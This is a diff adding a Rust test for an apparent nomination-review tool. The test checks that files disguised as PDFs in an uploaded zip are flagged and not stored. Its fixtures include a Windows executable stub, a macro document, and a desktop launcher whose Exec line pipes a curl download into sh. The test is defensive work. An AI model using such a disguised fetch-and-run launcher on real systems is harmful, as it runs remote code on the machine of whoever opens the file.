@@ -398,3 +398,60 @@ fn links_in_a_folder_package_are_never_followed_so_no_file_outside_it_is_package
         r.flags
     );
 }
+
+#[test]
+fn programs_launchers_and_macro_documents_in_a_package_are_flagged_and_never_stored() {
+    let dir = tempfile::tempdir().unwrap();
+    let review = new_exemplar_review(dir.path());
+    let workbook = std::fs::read(packages().join("东川理工大学/推荐汇总表.xlsx")).unwrap();
+    // 张三's 推荐表 is a program in disguise; 王五's is a launcher; 张三's 事迹材料 a
+    // document with macros. 李四's file is what it says.
+    let path = dir.path().join("东川理工大学.zip");
+    write_zip(
+        &path,
+        &[
+            ("推荐汇总表.xlsx", &workbook),
+            (
+                "张三-推荐表.pdf",
+                b"MZ\x90\0\x03\0\0\0 this program cannot be run in DOS mode",
+            ),
+            (
+                "张三-事迹材料.docm",
+                b"PK\x03\x04 [Content_Types].xml word/vbaProject.bin",
+            ),
+            ("李四-推荐表.pdf", b"%PDF-1.4\n%%EOF\n"),
+            (
+                "王五-推荐表.pdf",
+                b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n",
+            ),
+        ],
+    );
+    let r = run(
+        &review,
+        Source::Zip {
+            path: path.display().to_string(),
+        },
+    );
+    assert!(r.imported, "{:?}", r.error);
+    let flags: Vec<(&str, &str)> = r
+        .flags
+        .iter()
+        .filter(|f| f.code == "material_not_allowed")
+        .map(|f| (f.code.as_str(), f.message_zh.as_str()))
+        .collect();
+    assert_eq!(flags.len(), 3, "{:?}", r.flags);
+    assert!(flags
+        .iter()
+        .any(|(_, m)| m.contains("张三-推荐表.pdf") && m.contains("程序")));
+    assert!(flags
+        .iter()
+        .any(|(_, m)| m.contains("张三-事迹材料.docm") && m.contains("宏")));
+    assert!(flags.iter().any(|(_, m)| m.contains("王五-推荐表.pdf")));
+    // Only the real PDF is in the review, so only it can reach a package.
+    let stored = stored_materials(&review);
+    let all: Vec<&str> = stored
+        .iter()
+        .flat_map(|(_, m)| m.iter().map(|(_, file, _)| file.as_str()))
+        .collect();
+    assert_eq!(all, ["李四-推荐表.pdf"]);
+}
